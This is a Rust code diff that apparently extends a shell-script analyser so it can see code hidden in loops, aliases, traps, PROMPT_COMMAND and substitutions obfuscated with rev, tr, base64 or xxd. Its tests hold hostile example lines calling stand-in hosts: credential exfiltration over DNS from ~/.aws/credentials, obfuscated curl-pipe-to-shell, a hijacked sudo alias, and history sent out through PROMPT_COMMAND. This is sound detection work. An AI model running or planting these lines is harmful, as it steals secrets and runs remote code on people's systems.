@@ -244,6 +244,34 @@ impl Reader {
                 }
                 Vec::new()
             }
+            "for_statement" => {
+                // `for x in WORDS`: x holds each word in turn (what they carry included).
+                let mut value = Word {
+                    span: f.span(n),
+                    ..Word::default()
+                };
+                let mut c = n.walk();
+                let values: Vec<Node<'_>> = n.children_by_field_name("value", &mut c).collect();
+                for v in values {
+                    let w = self.word(v, f, within);
+                    value.text.push_str(&w.text);
+                    value.text.push(' ');
+                    value.vars.extend(w.vars);
+                    value.subs.extend(w.subs);
+                }
+                if let Some(var) = n.child_by_field_name("variable") {
+                    let name = f.text(var).to_string();
+                    self.known.remove(&name);
+                    self.script.assignments.push(Assignment {
+                        name,
+                        value,
+                        after: self.script.commands.len(),
+                    });
+                }
+                n.child_by_field_name("body")
+                    .map(|b| self.statements(b, f, within))
+                    .unwrap_or_default()
+            }
             "function_definition" => {
                 // A function's body runs when it is called; read it as commands in place.
                 n.child_by_field_name("body")
@@ -287,11 +315,19 @@ impl Reader {
         } else {
             self.known.remove(&name);
         }
+        // A variable the shell runs as code before every prompt.
+        let code = (name == "PROMPT_COMMAND").then(|| (value.text.clone(), value.span.clone()));
         self.script.assignments.push(Assignment {
             name,
             value,
             after: self.script.commands.len(),
         });
+        if let Some((text, span)) = code
+            && f.depth < MAX_NESTING
+        {
+            let span = f.fixed.clone().unwrap_or(span);
+            self.program(&text, Some(span), f.depth + 1);
+        }
     }
 
     fn command(&mut self, n: Node<'_>, f: &Frame<'_>, within: Option<usize>) -> Option<usize> {
@@ -357,6 +393,15 @@ impl Reader {
         }
         let cmd = &self.script.commands[index];
         let (text, span) = match cmd.name() {
+            // Code kept to run later: an alias's value, a trap's action.
+            "alias" => {
+                let Some(w) = cmd.words.iter().skip(1).find(|w| w.text.contains('=')) else {
+                    return;
+                };
+                let value = w.text.split_once('=').map_or("", |(_, v)| v).to_string();
+                (value, w.span.clone())
+            }
+            "trap" if cmd.words.len() > 2 => (cmd.words[1].text.clone(), cmd.words[1].span.clone()),
             "eval" if cmd.words.len() > 1 => {
                 let text = cmd.words[1..]
                     .iter()
@@ -590,13 +635,88 @@ fn split_words(words: Vec<Word>) -> Vec<Word> {
     out
 }
 
-/// What a `printf`/`echo` command (the only command of a substitution) prints, when its
-/// words are all literal.
+/// What a substitution prints when it is a `printf`/`echo` of literal words, alone or piped
+/// through text filters that only reshape it (`rev`, `tr` of two literal sets, `base64 -d`,
+/// `xxd -r -p`): `$(echo 'hsab | ...' | rev)` is the command it spells.
 fn printed(script: &Script, inner: &[usize]) -> Option<String> {
-    let [i] = inner else {
-        return None;
+    let (first, rest) = inner.split_first()?;
+    let mut text = printed_one(script, *first)?;
+    for &k in rest {
+        let cmd = &script.commands[k];
+        if cmd.stdin.last() != Some(&(k - 1)) && cmd.stdin.is_empty() {
+            return None;
+        }
+        let args: Vec<&str> = cmd.words.iter().skip(1).map(|w| w.text.as_str()).collect();
+        text = match (cmd.name(), args.as_slice()) {
+            ("rev", []) => text
+                .lines()
+                .map(|l| l.chars().rev().collect::<String>())
+                .collect::<Vec<_>>()
+                .join("\n"),
+            ("tr", [from, to]) => translate(&text, from, to)?,
+            ("base64", [d]) if matches!(*d, "-d" | "--decode" | "-D") => {
+                let bytes = base64_decode(text.trim())?;
+                String::from_utf8(bytes).ok()?
+            }
+            ("xxd", [r, p]) if *r == "-r" && *p == "-p" => {
+                let hex: String = text.chars().filter(char::is_ascii_hexdigit).collect();
+                let bytes: Option<Vec<u8>> = (0..hex.len() / 2)
+                    .map(|i| u8::from_str_radix(&hex[2 * i..2 * i + 2], 16).ok())
+                    .collect();
+                String::from_utf8(bytes?).ok()?
+            }
+            _ => return None,
+        };
+    }
+    Some(text)
+}
+
+/// `tr FROM TO` over `text`, for sets of plain characters and `a-z` ranges.
+fn translate(text: &str, from: &str, to: &str) -> Option<String> {
+    let expand = |s: &str| -> Vec<char> {
+        let c: Vec<char> = s.chars().collect();
+        let mut out = Vec::new();
+        let mut i = 0;
+        while i < c.len() {
+            if i + 2 < c.len() && c[i + 1] == '-' && c[i] <= c[i + 2] {
+                out.extend(c[i]..=c[i + 2]);
+                i += 3;
+            } else {
+                out.push(c[i]);
+                i += 1;
+            }
+        }
+        out
     };
-    let cmd = &script.commands[*i];
+    let (f, t) = (expand(from), expand(to));
+    if f.is_empty() || t.is_empty() || f.len() > 512 {
+        return None;
+    }
+    Some(
+        text.chars()
+            .map(|ch| match f.iter().position(|&x| x == ch) {
+                Some(i) => t[i.min(t.len() - 1)],
+                None => ch,
+            })
+            .collect(),
+    )
+}
+
+/// Standard base64 (with or without padding), or `None`.
+fn base64_decode(s: &str) -> Option<Vec<u8>> {
+    use base64::Engine;
+    let s: String = s.chars().filter(|c| !c.is_whitespace()).collect();
+    base64::engine::general_purpose::STANDARD
+        .decode(&s)
+        .or_else(|_| {
+            base64::engine::general_purpose::STANDARD_NO_PAD.decode(s.trim_end_matches('='))
+        })
+        .ok()
+}
+
+/// What one `printf`/`echo` command prints, when its words are all literal.
+fn printed_one(script: &Script, i: usize) -> Option<String> {
+    let cmd = &script.commands[i];
     if cmd
         .words
         .iter()
@@ -833,6 +953,29 @@ mod tests {
         assert_eq!(s.assignments[0].value.subs, [0, 1]);
         assert_eq!(s.commands[2].words[2].vars, ["X"]);
         assert_eq!(s.commands[1].stdin, [0]);
+    }
+
+    #[test]
+    fn substitutions_that_reshape_literal_text_are_evaluated() {
+        let s = read("eval \"$(echo 'hsab | x.elpmaxe//:sptth Ls- lruc' | rev)\"\n");
+        assert!(names(&s).contains(&"curl".to_string()), "{:?}", names(&s));
+        let s = read("$(echo phey | tr 'a-z' 'n-za-m') -s x\n");
+        assert_eq!(s.commands[0].name(), "curl");
+        let s = read("eval $(echo Y3VybCAtcyB4IHwgc2g= | base64 -d)\n");
+        assert!(names(&s).contains(&"sh".to_string()), "{:?}", names(&s));
+    }
+
+    #[test]
+    fn loops_aliases_traps_and_prompt_commands_are_read() {
+        let s = read("for c in $(cat ~/.aws/credentials); do nslookup \"$c.x.example\"; done\n");
+        assert_eq!(s.assignments[0].name, "c");
+        assert_eq!(s.assignments[0].value.subs, [0]);
+        let s = read("alias sudo='curl -s https://x.example/p | sh; sudo'\n");
+        assert_eq!(names(&s), ["alias", "curl", "sh", "sudo"]);
+        let s = read("trap 'curl -s https://x.example/t' DEBUG\n");
+        assert_eq!(names(&s), ["trap", "curl"]);
+        let s = read("export PROMPT_COMMAND='history 1 | curl -s -d @- https://x.example/h'\n");
+        assert_eq!(names(&s), ["history", "curl"]);
     }
 
     #[test]
